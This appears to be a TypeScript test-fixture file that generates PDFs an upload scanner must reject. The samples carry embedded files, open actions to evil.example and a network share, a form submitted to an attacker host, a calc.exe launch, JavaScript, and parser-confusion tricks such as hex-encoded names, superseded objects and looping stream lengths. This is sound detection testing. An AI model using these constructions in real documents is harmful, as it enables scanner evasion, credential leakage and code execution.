import { deflateSync } from 'node:zlib';
import { assemble } from '../../../shared/outside/pdf/simple-pdf.ts';
import type { ContentFindingCode } from '../../../shared/uploads/content/finding.ts';
import type { BadFile } from './bad-pictures.ts';

const pages = ['<< /Type /Pages /Count 1 /Kids [3 0 R] >>'];
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${more} >>`;
const click = (action: string) =>
  page(`/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${action} >> >>]`);
const program = '<< /Length 2 >>\nstream\nMZ\nendstream';

/** A document of one page with this in its catalog, on its page, and as its further objects. */
export const pdfWith = (catalog: string, onPage = page(), ...more: string[]): Uint8Array =>
  assemble([`<< /Type /Catalog /Pages 2 0 R ${catalog} >>`, ...pages, onPage, ...more], '/Root 1 0 R');

/** A title, and a file that must be refused. */
type Row = readonly [title: string, bytes: Uint8Array];

/** PDF files that carry other files, or open them. */
export const badPdf = (): BadFile[] => [
  ...[...carried(), ...acting(), ...scripts(), ...superseded()].map(([title, bytes]) =>
    badPdfOf(title, bytes, 'active_content'),
  ),
  ...unclear().map(([title, bytes]) => badPdfOf(title, bytes, 'hidden_data')),
];

const badPdfOf = (title: string, bytes: Uint8Array, code: ContentFindingCode): BadFile => ({
  title: `a PDF with ${title}`,
  purpose: 'agreement',
  fileName: 'agreement.pdf',
  bytes,
  codes: [code],
});

/** What a document carries, and what opens with it. */
const carried = (): Row[] => [
  [
    'an attachment',
    pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 4 0 R >> >>] >> >>', page(), program),
  ],
  ['an attachment without a list of names', pdfWith('', page(), '<< /EF << /F 5 0 R >> >>', program)],
  ['associated files', pdfWith('/AF [<< /F (a.exe) >>]')],
  [
    'an attachment on its page',
    pdfWith('', page('/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]')),
  ],
  [
    'a share that opens with it',
    pdfWith('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>'),
  ],
  ['a web page that opens with it', pdfWith('/OpenAction << /S /URI /URI (http://evil.example/) >>')],
  ['a rendition', pdfWith('', click('/S /Rendition /OP 0'))],
  [
    'a stream that lies elsewhere',
    pdfWith('', page(), '<< /Length 0 /F (http://evil.example/x) >>\nstream\n\nendstream'),
  ],
  ['a link to a file', pdfWith('', click('/S /URI /URI (file://evil/share)'))],
  ['a link to a script', pdfWith('', click('/S /URI /URI (javascript:alert\\(1\\))'))],
  ['a program behind a link', pdfWith('', click('/S /Launch /F (calc.exe)'))],
];

/** What else a document does. */
const acting = (): Row[] => [
  ['a second action', pdfWith('', click('/S /GoTo /D [3 0 R /Fit] /Next << /S /Hide >>'))],
  ['an action elsewhere', pdfWith('/OpenAction 4 0 R', page(), '<< /S 5 0 R >>', '/ResetForm')],
  ['a form that is sent', pdfWith('', click('/S /SubmitForm /F (https://evil.example/)'))],
  ['a form that loads its data', pdfWith('', click('/S /ImportData /F (a.fdf)'))],
  ['an attachment that opens', pdfWith('/OpenAction << /S /GoToE /T << /R /C /N (a) >> >>')],
  [
    'a form in XML',
    pdfWith('/AcroForm << /Fields [] /XFA 4 0 R >>', page(), '<< /Length 6 >>\nstream\n<xdp/>\nendstream'),
  ],
  ['a flash film', pdfWith('', page('/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]'))],
  ['a program, written in hex', pdfWith('/OpenAction << /S /#4c#61unc#68 /F (calc.exe) >>')],
  [
    'attachments, of which none is shown',
    pdfWith('/Names << /EmbeddedFiles 4 0 R >>', page(), '<< /Names [] >>'),
  ],
  ['associated files elsewhere', pdfWith('/AF 4 0 R', page(), '[]')],
  ['an attachment by its other name', pdfWith('', page(), '<< /EF << /UF 5 0 R >> >>', program)],
  ['a portfolio', pdfWith('/Collection << >>')],
  ['another document that opens with it', pdfWith('/OpenAction << /S /GoToR /D [0 /Fit] >>')],
  ['a click that prints', pdfWith('', click('/S /Named /N /Print'))],
  ['a key that pages do not have', pdfWith('', page('/Unknown 1'))],
  ['a film', pdfWith('', page('/Annots [<< /Subtype /Movie /Rect [0 0 9 9] >>]'))],
  ['what happens when its page is shown', pdfWith('', page('/AA << /O << /S /GoTo >> >>'))],
];

const script = '/S /JavaScript /JS (app.alert\\(1\\))';

/** Everywhere a script can stand, and every way to write that it is one. */
function scripts(): Row[] {
  const hex = (name: string) => [...name].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('');
  const elsewhere = [page(), `<< ${script} >>`] as const;
  return [
    ['a script that opens with it', pdfWith(`/OpenAction << ${script} >>`)],
    ['a script among its names', pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', ...elsewhere)],
    ['a script all in hex', pdfWith(`/OpenAction << /S /${hex('JavaScript')} /JS (x) >>`)],
    [
      'a script whose names are all in hex',
      pdfWith(`/OpenAction << /${hex('S')} /${hex('JavaScript')} /${hex('JS')} (x) >>`),
    ],
    [
      'a script in a stream',
      pdfWith('', click('/S /JavaScript /JS 4 0 R'), '<< /Length 1 >>\nstream\nx\nendstream'),
    ],
    ['a script that nothing refers to', pdfWith('', ...elsewhere)],
    [
      'a script in an object that a later one takes the place of',
      pdfWith('', page(), `<< ${script} >>\nendobj\n4 0 obj\n<< >>`),
    ],
    ['a script in an object stream', pdfWith('', page(), objectStream(`<< ${script} >>`))],
    [
      'a script in hex in an object stream',
      pdfWith('', page(), objectStream('<< /S /Java#53cript /JS (x) >>')),
    ],
    ['a script when its page is shown', pdfWith('', page(`/AA << /O << ${script} >> >>`))],
    ['a script when it is closed', pdfWith(`/AA << /WC << ${script} >> >>`)],
    [
      'a script behind a field',
      pdfWith('', page(`/Annots [<< /Subtype /Widget /Rect [0 0 9 9] /AA << /K << ${script} >> >> >>]`)),
    ],
    ['a script behind another action', pdfWith('', click(`/S /GoTo /D [3 0 R /Fit] /Next << ${script} >>`))],
  ];
}

/** An object, and another definition of the same one behind it. */
const twice = (number: number, first: string, second: string): string =>
  `${first}\nendobj\n${number} 0 obj\n${second}`;

/** What stands in a definition that a later one takes the place of: some readers take the first. */
function superseded(): Row[] {
  const share = '/OpenAction << /S /URI /URI (file://evil/share) >>';
  const pagesOf = '/Type /Catalog /Pages 2 0 R';
  return [
    [
      'a superseded form in XML',
      pdfWith(
        '/AcroForm 4 0 R',
        page(),
        twice(4, '<< /Fields [] /XFA 5 0 R >>', '<< /Fields [] >>'),
        program,
      ),
    ],
    [
      'a superseded page that links to a share',
      pdfWith('', twice(3, click('/S /URI /URI (file://evil/share)'), page())),
    ],
    [
      'a superseded film',
      pdfWith('', page('/Annots [4 0 R]'), twice(4, '<< /Subtype /Movie /Rect [0 0 9 9] >>', '<< >>')),
    ],
    [
      'a superseded stream elsewhere',
      pdfWith('', page(), twice(4, '<< /Length 0 /F (a) >>\nstream\n\nendstream', '<< >>')),
    ],
    ['a superseded kind of action', pdfWith('', click('/S 4 0 R'), twice(4, '/ResetForm', '/GoTo'))],
    [
      'a superseded target',
      pdfWith('', click('/S /URI /URI 4 0 R'), twice(4, '(file://evil/share)', '(https://a.example/)')),
    ],
    [
      'a superseded list of actions',
      pdfWith('', click('/S /GoTo /Next 4 0 R'), twice(4, '[<< /S /Hide >>]', '[]')),
    ],
    ['a superseded catalog', pdfWith('', page(), twice(4, `<< ${pagesOf} ${share} >>`, '<< >>'))],
  ];
}

/** What one reader takes for something else than another. */
function unclear(): Row[] {
  const { length } = hiddenObjects;
  const link = '/Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example/) >>';
  return [
    ['two forms at one key', pdfWith('/AcroForm << /Fields [] >> /AcroForm << /Fields [] >>')],
    ['a key twice, once in hex', pdfWith('/OpenAction [3 0 R /Fit] /#4fpenAction [3 0 R /Fit]')],
    ['a key twice in an object stream', pdfWith('', page(), objectStream(`<< ${link} ${link} >>`))],
    [
      'an object stream that is not said to be one',
      pdfWith(
        '',
        page(),
        `<< /N 1 /First 4 /Filter /FlateDecode /Length ${length} >>\nstream\n${hiddenObjects}\nendstream`,
      ),
    ],
    [
      'objects that lie in each other',
      pdfWith('', page(), objectStream(`((((((x))))))`, '1 0 2 1 3 2 4 3 5 4 6 5 ')),
    ],
    ['an object that is another', pdfWith('', page(), '3 0 R')],
    [
      'streams of a length below zero, each of which ends where the other begins',
      pdfWith('', page(), circlingStreams()),
    ],
  ];
}

/** A reader that goes back as far as these say never comes to an end. */
function circlingStreams(): string {
  const back = (toBegin: string, before: string, after: string) => {
    const written = (length: number) => `${before}${-length}${after}`;
    // The number that tells the length is a part of it.
    return written(toBegin.length + written(10).length);
  };
  const inner = back('', 'endstream endobj 5 0 obj << /Length ', ' >> stream\n');
  return `<< /A (${inner}${back(inner, ') /Length ', ' >>\nstream\n')}x\nendstream`;
}

const hiddenObjects = deflateSync(Buffer.from(`1 0 << /Type /Catalog /Pages 2 0 R >>`)).toString('latin1');

/** Object 9 in a compressed stream. */
function objectStream(object: string, places = '9 0 '): string {
  const data = deflateSync(Buffer.from(`${places}${object}`)).toString('latin1');
  return `<< /Type /ObjStm /N ${places.length >> 2} /First ${places.length} /Filter /FlateDecode /Length ${data.length} >>\nstream\n${data}\nendstream`;
}

/** A document as it is after two changes that were saved behind it, each with the object that takes another's place. */
export function updatedPdf(): Uint8Array {
  const pages = [page('/Tabs /S'), page('/Annots [<< /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>]')];
  return pages.reduce((file, changed) => {
    const start = file.length;
    const object = `3 0 obj\n${changed}\nendobj\n`;
    const row = `${String(start).padStart(10, '0')} 00000 n \n`;
    const trailer = `trailer\n<< /Size 4 /Root 1 0 R >>\nstartxref\n${start + object.length}\n%%EOF\n`;
    return Buffer.concat([file, Buffer.from(`${object}xref\n3 1\n${row}${trailer}`, 'latin1')]);
  }, pdfWith(''));
}

/** What ordinary documents have: links, an outline, a place to open at, a form without scripts. */
export const richPdf = (): Uint8Array =>
  pdfWith(
    '/OpenAction [3 0 R /Fit] /Outlines 4 0 R /PageMode /UseOutlines /Lang (zh-CN) /MarkInfo << /Marked true >> /AcroForm << /Fields [6 0 R] >> /Names << /Dests << /Names [] >> >>',
    page(
      '/Annots [6 0 R << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /F 4 /A << /S /URI /URI (https://docs.example.com/) >> >> << /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>] /Tabs /S',
    ),
    '<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>',
    '<< /Title (One) /Parent 4 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>',
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] /F 4 >>',
  );
